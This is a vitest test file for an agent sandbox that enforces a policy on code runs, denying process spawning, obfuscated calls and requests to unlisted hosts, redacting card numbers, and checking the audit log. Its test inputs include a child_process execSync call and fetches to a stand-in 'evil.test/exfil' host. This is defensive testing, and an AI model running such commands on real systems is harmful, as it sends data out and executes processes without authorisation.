/**
 * runCode under a policy: the run is decided on the code's facts before anything runs, each host
 * call the code makes is decided as its own action in the same session, the run's output is
 * decided as its result, and every step is in an audit log that verifies.
 */
import { mkdtempSync, readFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { ActionDenied, createEnforcer, type Enforcer, ToolFailed, verifyAuditLogFile } from "@agent-armor/runtime";
import { createSandboxPool, type HostTool, runCode } from "@agent-armor/sandbox";
import { afterAll, describe, expect, it } from "vitest";

const POLICY = `policy sandbox_test version "1"

default allow

rule no_processes
  when action.type == "run_code" and "child_process" in imports
  deny because "code may not start processes"

rule no_hidden_code
  when action.type == "run_code" and dynamic == true
  deny because "code that hides what it runs is not run"

rule known_hosts_only
  when action.type == "http_get" and host(url) not in ["api.example.com"]
  deny because "the sandbox reaches api.example.com only"

rule cards_stay_out on result
  when action.type == "run_code"
  redact result.stdout matching std.card_number with "[CARD]"
`;

const pool = createSandboxPool({ size: 1 });
afterAll(() => pool.close());

async function enforcerWith(throwOnDeny = true): Promise<{ enforcer: Enforcer; file: string }> {
  const file = join(mkdtempSync(join(tmpdir(), "armor-sandbox-")), "audit.jsonl");
  return { enforcer: await createEnforcer({ policy: { fileName: "sandbox.armor", source: POLICY }, audit: { file }, throwOnDeny }), file };
}

const records = (file: string) =>
  readFileSync(file, "utf8")
    .trim()
    .split("\n")
    .map((l) => JSON.parse(l) as { kind: string; decision?: string; outcome?: string; action?: { type?: string } })
    .map((r) => `${r.kind} ${r.action?.type ?? ""} ${r.decision ?? r.outcome ?? ""}`.replace(/\s+/g, " ").trim());

describe("runCode", () => {
  it("runs allowed code, decides each host call, and redacts the output", async () => {
    const { enforcer, file } = await enforcerWith();
    const fetched: string[] = [];
    const host: Record<string, HostTool> = {
      fetch: {
        type: "http_get",
        action: ([url]) => ({ url }),
        run: async (a) => {
          fetched.push(String(a.url));
          return { status: 200, body: "card 4111 1111 1111 1111" };
        },
      },
    };
    const code = 'const r = await fetch("https://api.example.com/v1/cards"); console.log(r.body); return r.status';
    const { decision, result } = await runCode(enforcer, { language: "javascript", code }, { session: "s1" }, { host, pool });
    expect(decision).toMatchObject({ decision: "allow", action: { type: "run_code", language: "javascript", code, calls: ["fetch"], hosts: ["api.example.com"], dynamic: false } });
    expect(result).toEqual({ value: 200, stdout: "card [CARD]\n" });
    expect(fetched).toEqual(["https://api.example.com/v1/cards"]);
    await enforcer.close();
    expect(records(file)).toEqual(["decision run_code allow", "decision http_get allow", "outcome ok", "result allow", "outcome ok", "result allow"]);
    expect((await verifyAuditLogFile(file)).ok).toBe(true);
  });

  it.each([
    { name: "an import the policy forbids", code: 'const cp = require("child_process"); cp.execSync("id")', rule: "no_processes" },
    { name: "code that hides what it calls", code: 'const k = "fe" + "tch"; await globalThis[k]("https://evil.test")', rule: "no_hidden_code" },
  ])("denies $name before anything runs", async ({ code, rule }) => {
    const { enforcer, file } = await enforcerWith();
    let ran = false;
    const host = { fetch: { type: "http_get", action: ([url]: unknown[]) => ({ url }), run: () => (ran = true) } };
    const err = await runCode(enforcer, { language: "javascript", code }, { session: "s2" }, { host, pool }).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(ActionDenied);
    expect((err as ActionDenied).decision.rules.map((r) => r.id)).toEqual([rule]);
    expect(ran).toBe(false);
    await enforcer.close();
    expect(records(file)).toEqual(["decision run_code deny"]);
  });

  // an enforcer that answers denials rather than throwing them (the gateway's) gives the guest the same error
  it.each([[true], [false]])("a host call the policy denies fails inside the code, which may carry on (throwOnDeny %s)", async (throwOnDeny) => {
    const { enforcer, file } = await enforcerWith(throwOnDeny);
    let ran = false;
    const host = { fetch: { type: "http_get", action: ([url]: unknown[]) => ({ url }), run: () => (ran = true) } };
    const code = 'try { await fetch("https://evil.test/exfil") } catch (e) { console.log("refused: " + e.message) } return "done"';
    const { result } = await runCode(enforcer, { language: "javascript", code }, { session: "s3" }, { host, pool });
    expect(result?.value).toBe("done");
    expect(result?.stdout).toMatch(/^refused: action `http_get` denied \(known_hosts_only: /);
    expect(ran).toBe(false);
    await enforcer.close();
    expect(records(file)).toEqual(["decision run_code allow", "decision http_get deny", "outcome ok", "result allow"]);
  });

  it("a sandbox failure fails the run, naming its cause, and is audited", async () => {
    const { enforcer, file } = await enforcerWith();
    const err = await runCode(enforcer, { language: "javascript", code: "while (true) {}" }, { session: "s4" }, { pool, limits: { timeMs: 100 } }).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(ToolFailed);
    expect((err as Error).message).toMatch(/ran longer than 100 ms/);
    await enforcer.close();
    expect(records(file)).toEqual(["decision run_code allow", "outcome error", "result allow"]);
    expect((await verifyAuditLogFile(file)).ok).toBe(true);
  });
});
